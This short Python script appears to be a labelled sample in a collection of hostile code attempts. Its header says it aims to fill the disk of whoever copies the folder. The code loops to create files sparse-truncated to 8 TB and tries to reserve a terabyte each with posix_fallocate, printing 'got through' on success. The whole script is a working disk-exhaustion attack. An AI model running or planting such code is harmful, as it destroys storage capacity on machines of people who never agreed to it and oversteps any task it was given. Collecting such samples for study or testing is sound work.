# tries: makes files that say they hold terabytes, for whoever copies the folder
# in: E1
# honest: 0
# stock: no (it could fill the disk when somebody copies the folder)
import os

for number in range(10):
    try:
        with open(f"zeros{number}.bin", "wb") as file:
            file.truncate(2**43)
        print("got through: made a file of 8 TB")
    except OSError:
        pass
    try:
        fd = os.open(f"room{number}.bin", os.O_CREAT | os.O_WRONLY)
        os.posix_fallocate(fd, 0, 2**40)
        print("got through: took a terabyte")
    except OSError:
        pass
